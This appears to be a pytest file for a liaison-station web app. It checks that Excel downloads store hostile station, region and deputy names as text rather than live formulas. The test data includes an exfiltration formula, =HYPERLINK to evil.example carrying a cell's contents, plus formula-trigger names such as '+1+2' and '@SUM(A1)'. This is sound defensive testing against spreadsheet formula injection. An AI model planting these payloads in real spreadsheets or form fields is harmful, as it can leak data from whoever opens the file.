"""The region report and duty record downloads write hostile names as text, never as formulas.

A liaison can name a station (and staff can name a deputy or region) anything; the NPC
office then opens the Excel file. Every name below would be a formula if written as is.
"""
from __future__ import annotations

from datetime import date, datetime
from io import BytesIO

import factories
import pytest
from openpyxl import load_workbook

from liaison.core.clock import CHINA

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"点此查看")'
HOSTILE = [HYPERLINK, "+1+2", "@SUM(A1)", "-2+3", "\t=1", "\r=1"]


def read_back(text: str) -> str:
    """What a cell written with ``text`` reads back as: the text itself. openpyxl writes
    through lxml (pinned in requirements.txt), which keeps a carriage return as ``&#13;``;
    its plain writer would leave it raw, and XML reads a raw one as a line feed (XML 1.0
    §2.11). Nothing may change the text."""
    return text


def assert_text(cell, text: str) -> None:
    assert (cell.data_type, cell.value) == ("s", read_back(text)), (cell.coordinate, cell.value)


def workbook(client, login, path: str):
    """Download ``/api/v1/stats/<path>`` as the NPC office; the workbook holds no formula."""
    r = client.get(f"/api/v1/stats/{path}", headers=login("office-hostile"))
    assert r.status_code == 200
    wb = load_workbook(BytesIO(r.data))
    assert not [(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    return wb


@pytest.fixture
def hostile(app):
    """Region ``=HYPERLINK(...)`` with districts ``+1+2`` and ``@SUM(A1)``; one station per
    hostile name, each with one deputy of the same name (too few deputies, all invisible);
    a deputy ``=HYPERLINK(...)`` checks in at two of them in March 2025."""
    from liaison.core.db import db
    from liaison.reception.models import CheckIn

    with app.app_context():
        S = db.session
        top = factories.region(S, HYPERLINK, "district")
        areas = [factories.region(S, name, "street", top) for name in ("+1+2", "@SUM(A1)")]
        stations, deputies = [], {}
        for i, name in enumerate(HOSTILE):
            station = factories.station(S, areas[i % 2], name, kind="central", reception_plan={})
            deputies[name] = factories.deputy(S, name, station).id
            stations.append(station)
        active = factories.deputy(S, HYPERLINK, stations[1], work_unit="\t=1", post="@SUM(A1)")
        factories.membership(S, active, stations[3], "cross")
        for station, day in ((stations[1], date(2025, 3, 5)), (stations[3], date(2025, 3, 9))):
            db.session.add(CheckIn(deputy_id=active.id, station_id=station.id, day=day, in_plan=False, verified=True,
                                   source="staff", at=datetime(day.year, day.month, day.day, 10, tzinfo=CHINA)))
        factories.staff(S, factories.user(S, "office-hostile", "工委"), "office", region_id=top.id)
        db.session.commit()
        return {"region": top.id, "deputy": active.id, "deputies": deputies}


def test_region_report_excel_writes_names_as_text_and_figures_as_numbers(client, hostile, login):
    wb = workbook(client, login, f"regions/{hostile['region']}/report.xlsx?month=2025-03")
    title = wb["概况"]["A1"]
    assert title.data_type == "s" and title.value == f"{HYPERLINK}人大代表联络站数据分析（2025-03）"
    areas = list(wb["各区域"].iter_rows(min_row=2))
    for row, name in zip(areas, ["+1+2", "@SUM(A1)"], strict=True):
        assert_text(row[0], name)
        assert [c.value for c in row[1:5]] == [3, 3, 0, 3 if name == "+1+2" else 4]
    stations = list(wb["联络站"].iter_rows(min_row=2))
    assert sorted(row[1].value for row in stations) == sorted(read_back(n) for n in HOSTILE)
    for row in stations:
        assert row[1].data_type == "s"
        assert isinstance(row[0].value, int) and all(isinstance(c.value, int) for c in row[3:8])
    problems = [row for row in wb["问题清单"].iter_rows(min_row=2) if row[0].value.startswith("驻站代表少于")]
    assert sorted(row[1].value for row in problems) == sorted(read_back(n) for n in HOSTILE)
    for row in problems:
        assert row[1].data_type == "s" and isinstance(row[2].value, int) and row[2].value >= 1
    invisible = {row[0].value: row for row in wb["隐身代表"].iter_rows(min_row=2)}
    assert len(invisible) == len(HOSTILE) and set(invisible) == {read_back(n) for n in HOSTILE}
    for name in HOSTILE:
        assert_text(invisible[read_back(name)][0], name)
        assert_text(invisible[read_back(name)][1], name)  # its one station, of the same name


def test_duty_record_excel_writes_names_as_text_and_figures_as_numbers(client, hostile, login):
    wb = workbook(client, login, f"deputies/{hostile['deputy']}/duty-record.xlsx?year=2025")
    sheet = wb["履职档案"]
    assert_text(sheet["A1"], f"{HYPERLINK} 2025 年度履职档案")
    assert_text(sheet["B2"], "=1 @SUM(A1)")  # work unit "\t=1" and post, joined and stripped
    assert_text(sheet["B3"], "+1+2、-2+3（交叉进站）")
    visits = list(wb["进站记录"].iter_rows(min_row=2))
    assert [c.value for c in visits[0][:2]] == ["2025-03-05", "+1+2"] and visits[0][1].data_type == "s"
    assert [c.value for c in visits[1][:2]] == ["2025-03-09", "-2+3"] and visits[1][1].data_type == "s"
    march = next(row for row in wb["逐月"].iter_rows(min_row=2, values_only=True) if row[0] == "2025-03")
    assert march[1:3] == (2, 2)  # active days, check-ins: numbers
    rows = list(sheet.iter_rows(values_only=True))
    items = rows[[r[0] for r in rows].index("积分项目") + 1:]
    assert items and all(isinstance(v, (int, float)) for row in items for v in row[1:4])
    assert next(row for row in items if row[1])[1] == 2  # the two check-ins


def test_download_names_made_from_hostile_names_are_plain_file_names(client, hostile, login):
    from urllib.parse import unquote

    office = login("office-hostile")
    crlf = hostile["deputies"]["\r=1"]
    for path, name in ((f"regions/{hostile['region']}/report.xlsx?month=2025-03",
                        '=HYPERLINK(_http___evil.example__d=_&A3,_点此查看_)联络站数据分析-2025-03.xlsx'),
                       (f"deputies/{crlf}/duty-record.xlsx?year=2025", "_=1-2025年度履职档案.xlsx"),
                       (f"deputies/{crlf}/duty-record.pdf?year=2025", "_=1-2025年度履职档案.pdf")):
        r = client.get(f"/api/v1/stats/{path}", headers=office)
        assert r.status_code == 200, path  # a line break in a header was a 500
        assert unquote(r.headers["Content-Disposition"].split("filename*=UTF-8''")[1]) == name
